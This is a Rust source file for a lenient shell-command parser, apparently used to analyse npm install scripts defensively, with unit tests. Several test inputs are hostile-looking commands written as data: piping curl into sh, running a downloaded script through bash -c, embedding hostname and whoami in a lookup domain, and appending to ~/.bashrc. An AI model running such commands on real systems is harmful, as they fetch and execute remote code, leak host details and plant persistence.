//! A small POSIX-shell reader for install scripts: enough to know which commands run, with
//! which arguments, joined by which operators. Quotes, escapes, `$VAR`, `$(…)` and backticks are
//! understood; command substitutions are kept as text for the caller to read in turn. It never
//! fails: a script npm's shell would reject is still read as well as it can be.

/// One shell word: `literal` holds only the characters written literally (quotes removed),
/// `raw` the word with substitutions and variables as written.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    pub raw: String,
    pub literal: String,
    /// The commands inside `$(…)` and backticks, in order.
    pub substitutions: Vec<String>,
    /// Variable names read: `$HOME`, `${HOME}`, `$env:USERNAME` (as `env:USERNAME`), `%USERNAME%`.
    pub variables: Vec<String>,
}

impl Word {
    pub fn is_dynamic(&self) -> bool {
        !self.substitutions.is_empty() || !self.variables.is_empty()
    }
}

/// A redirection: `>`, `>>`, `<`, `2>`, `&>`… and its target word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub op: String,
    pub target: Word,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// Byte offset in the parsed text where the command starts.
    pub offset: usize,
}

/// Commands joined by `|`; pipelines are joined by `&&`, `||`, `;`, `&` and new lines, which
/// all mean "and then, maybe" for this analysis.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pipeline {
    pub commands: Vec<Command>,
}

pub fn parse(text: &str) -> Vec<Pipeline> {
    let mut parser = Parser {
        chars: text.char_indices().collect(),
        at: 0,
        len: text.len(),
    };
    parser.script()
}

struct Parser {
    chars: Vec<(usize, char)>,
    at: usize,
    len: usize,
}

impl Parser {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.at).map(|(_, c)| *c)
    }

    fn peek2(&self) -> Option<char> {
        self.chars.get(self.at + 1).map(|(_, c)| *c)
    }

    fn offset(&self) -> usize {
        self.chars.get(self.at).map_or(self.len, |(i, _)| *i)
    }

    fn script(&mut self) -> Vec<Pipeline> {
        let mut pipelines = Vec::new();
        let mut pipeline = Pipeline::default();
        let mut command = Command::default();
        let mut pending_redirect: Option<String> = None;
        loop {
            while matches!(self.peek(), Some(' ' | '\t' | '\r'))
                || (self.peek() == Some('\\') && self.peek2() == Some('\n'))
            {
                self.at += if self.peek() == Some('\\') { 2 } else { 1 };
            }
            let Some(c) = self.peek() else { break };
            if command.words.is_empty() && command.redirects.is_empty() {
                command.offset = self.offset();
            }
            match c {
                '#' if pending_redirect.is_none() => {
                    while !matches!(self.peek(), None | Some('\n')) {
                        self.at += 1;
                    }
                }
                '|' | '&' | ';' | '\n' | '(' | ')' => {
                    let double = self.peek2() == Some(c);
                    self.at += 1;
                    if c == '&' && self.peek() == Some('>') {
                        // `&>file`: redirect both streams.
                        self.at += 1;
                        if self.peek() == Some('>') {
                            self.at += 1;
                        }
                        pending_redirect = Some("&>".into());
                        continue;
                    }
                    if double {
                        self.at += 1;
                    }
                    finish(&mut command, &mut pipeline);
                    let piped = c == '|' && !double;
                    if !piped && !pipeline.commands.is_empty() {
                        pipelines.push(std::mem::take(&mut pipeline));
                    }
                    pending_redirect = None;
                }
                '<' | '>' => {
                    let op = self.redirect_op(String::new());
                    if let Some(op) = op {
                        pending_redirect = Some(op);
                    }
                }
                _ => {
                    let word = self.word();
                    // `2>` and `2>&1`: a lone digit right before a redirection is a descriptor.
                    if matches!(self.peek(), Some('<' | '>'))
                        && word.raw.len() == 1
                        && word.raw.chars().all(|d| d.is_ascii_digit())
                    {
                        if let Some(op) = self.redirect_op(word.raw) {
                            pending_redirect = Some(op);
                        }
                        continue;
                    }
                    match pending_redirect.take() {
                        Some(op) => command.redirects.push(Redirect { op, target: word }),
                        None => command.words.push(word),
                    }
                }
            }
        }
        finish(&mut command, &mut pipeline);
        if !pipeline.commands.is_empty() {
            pipelines.push(pipeline);
        }
        pipelines
    }

    /// Reads `>`, `>>`, `<`, `<<<`, `>&`, `>|`; a `>&1` style duplication has no target word
    /// and returns `None`.
    fn redirect_op(&mut self, mut op: String) -> Option<String> {
        while let Some(c @ ('<' | '>' | '|')) = self.peek() {
            op.push(c);
            self.at += 1;
        }
        if self.peek() == Some('&') {
            op.push('&');
            self.at += 1;
            if matches!(self.peek(), Some('0'..='9' | '-')) {
                self.at += 1;
                return None;
            }
        }
        Some(op)
    }

    fn word(&mut self) -> Word {
        let mut word = Word::default();
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' | '\n' | '|' | '&' | ';' | '<' | '>' | '(' | ')' => break,
                '\\' => {
                    self.at += 1;
                    if let Some(next) = self.peek() {
                        self.at += 1;
                        if next != '\n' {
                            word.raw.push(next);
                            word.literal.push(next);
                        }
                    }
                }
                '\'' => {
                    self.at += 1;
                    while let Some(q) = self.peek() {
                        self.at += 1;
                        if q == '\'' {
                            break;
                        }
                        word.raw.push(q);
                        word.literal.push(q);
                    }
                }
                '"' => {
                    self.at += 1;
                    self.double_quoted(&mut word);
                }
                '$' | '`' | '%' => self.expansion(&mut word, false),
                _ => {
                    self.at += 1;
                    word.raw.push(c);
                    word.literal.push(c);
                }
            }
        }
        word
    }

    fn double_quoted(&mut self, word: &mut Word) {
        while let Some(c) = self.peek() {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' if matches!(self.peek2(), Some('"' | '\\' | '$' | '`' | '\n')) => {
                    self.at += 1;
                    if let Some(next) = self.peek() {
                        self.at += 1;
                        word.raw.push(next);
                        word.literal.push(next);
                    }
                }
                '$' | '`' | '%' => self.expansion(word, true),
                _ => {
                    self.at += 1;
                    word.raw.push(c);
                    word.literal.push(c);
                }
            }
        }
    }

    /// `$(…)`, `` `…` ``, `$VAR`, `${VAR}`, `$env:VAR`, `%VAR%`; anything else is literal.
    fn expansion(&mut self, word: &mut Word, quoted: bool) {
        let start = self.at;
        let c = self.peek().unwrap_or('$');
        self.at += 1;
        if c == '`' {
            let inner = self.until_backtick();
            word.raw.push_str(&format!("`{inner}`"));
            word.substitutions.push(inner);
            return;
        }
        if c == '%' {
            let name = self.take_while(|ch| ch.is_ascii_alphanumeric() || ch == '_');
            if !name.is_empty() && self.peek() == Some('%') {
                self.at += 1;
                word.raw.push_str(&format!("%{name}%"));
                word.variables.push(name);
            } else {
                self.at = start + 1;
                word.raw.push('%');
                word.literal.push('%');
            }
            return;
        }
        match self.peek() {
            Some('(') => {
                self.at += 1;
                let inner = self.until_close_paren();
                word.raw.push_str(&format!("$({inner})"));
                word.substitutions.push(inner);
            }
            Some('{') => {
                self.at += 1;
                let inner = self.take_while(|ch| ch != '}');
                self.at += 1;
                let name: String = inner
                    .chars()
                    .take_while(|ch| ch.is_ascii_alphanumeric() || *ch == '_')
                    .collect();
                word.raw.push_str(&format!("${{{inner}}}"));
                word.variables.push(name);
            }
            Some(ch) if ch.is_ascii_alphanumeric() || ch == '_' || (!quoted && ch == '@') => {
                let mut name = self.take_while(|ch| ch.is_ascii_alphanumeric() || ch == '_');
                if name.eq_ignore_ascii_case("env") && self.peek() == Some(':') {
                    self.at += 1;
                    name = format!(
                        "env:{}",
                        self.take_while(|ch| ch.is_ascii_alphanumeric() || ch == '_')
                    );
                }
                word.raw.push('$');
                word.raw.push_str(&name);
                word.variables.push(name);
            }
            _ => {
                word.raw.push('$');
                word.literal.push('$');
            }
        }
    }

    fn take_while(&mut self, keep: impl Fn(char) -> bool) -> String {
        let mut out = String::new();
        while let Some(c) = self.peek() {
            if !keep(c) {
                break;
            }
            out.push(c);
            self.at += 1;
        }
        out
    }

    fn until_backtick(&mut self) -> String {
        let mut out = String::new();
        while let Some(c) = self.peek() {
            self.at += 1;
            match c {
                '`' => break,
                '\\' => {
                    if let Some(next) = self.peek() {
                        self.at += 1;
                        out.push(next);
                    }
                }
                _ => out.push(c),
            }
        }
        out
    }

    /// The text up to the `)` matching an already-consumed `(`, respecting quotes and nesting
    /// (counted, not recursed: deep nesting costs no stack).
    fn until_close_paren(&mut self) -> String {
        let mut out = String::new();
        let mut level = 1usize;
        while let Some(c) = self.peek() {
            self.at += 1;
            match c {
                '(' => level += 1,
                ')' => {
                    level -= 1;
                    if level == 0 {
                        break;
                    }
                }
                '\'' | '"' => {
                    out.push(c);
                    while let Some(q) = self.peek() {
                        self.at += 1;
                        out.push(q);
                        if q == c {
                            break;
                        }
                        if q == '\\'
                            && c == '"'
                            && let Some(next) = self.peek()
                        {
                            self.at += 1;
                            out.push(next);
                        }
                    }
                    continue;
                }
                '\\' => {
                    out.push(c);
                    if let Some(next) = self.peek() {
                        self.at += 1;
                        out.push(next);
                    }
                    continue;
                }
                _ => {}
            }
            out.push(c);
        }
        out
    }
}

fn finish(command: &mut Command, pipeline: &mut Pipeline) {
    if !command.words.is_empty() || !command.redirects.is_empty() {
        pipeline.commands.push(std::mem::take(command));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<Vec<String>> {
        parse(text)
            .into_iter()
            .map(|p| {
                p.commands
                    .into_iter()
                    .map(|c| c.words.first().map(|w| w.raw.clone()).unwrap_or_default())
                    .collect()
            })
            .collect()
    }

    #[test]
    fn splits_on_operators_and_keeps_pipes_together() {
        assert_eq!(
            programs("a && b || c; d | e & f\ng"),
            vec![
                vec!["a"],
                vec!["b"],
                vec!["c"],
                vec!["d", "e"],
                vec!["f"],
                vec!["g"]
            ]
        );
        assert_eq!(programs("curl -s x|sh"), vec![vec!["curl", "sh"]]);
    }

    #[test]
    fn quotes_escapes_and_substitutions() {
        let p = parse(
            r#"node -e "require('./x')" 'a b' c\ d "$(hostname).h.example" `whoami` ${HOME}/x %USERNAME%"#,
        );
        let words = &p[0].commands[0].words;
        assert_eq!(words[2].raw, "require('./x')");
        assert_eq!(words[3].raw, "a b");
        assert_eq!(words[4].raw, "c d");
        assert_eq!(words[5].substitutions, vec!["hostname".to_string()]);
        assert_eq!(words[5].literal, ".h.example");
        assert_eq!(words[6].substitutions, vec!["whoami".to_string()]);
        assert_eq!(words[7].variables, vec!["HOME".to_string()]);
        assert_eq!(words[8].variables, vec!["USERNAME".to_string()]);
    }

    #[test]
    fn nested_substitutions_keep_their_text() {
        let p = parse("bash -c \"$(curl -fsSL https://x.example/i.sh | sed 's/)/(/')\"");
        let w = &p[0].commands[0].words[2];
        assert_eq!(
            w.substitutions,
            vec!["curl -fsSL https://x.example/i.sh | sed 's/)/(/'".to_string()]
        );
    }

    #[test]
    fn redirections_are_not_arguments() {
        let p = parse("node index.js > /dev/null 2>&1 && echo hi >> ~/.bashrc");
        assert_eq!(p[0].commands[0].words.len(), 2);
        assert_eq!(p[0].commands[0].redirects[0].target.raw, "/dev/null");
        assert_eq!(p[1].commands[0].redirects[0].op, ">>");
        assert_eq!(p[1].commands[0].redirects[0].target.raw, "~/.bashrc");
    }

    #[test]
    fn hostile_input_is_bounded() {
        let deep = format!("{}x{}", "$(".repeat(10_000), ")".repeat(10_000));
        assert_eq!(parse(&deep).len(), 1);
        let unterminated = "echo \"$(curl 'x";
        assert_eq!(parse(unterminated).len(), 1);
        assert!(parse("").is_empty());
    }
}
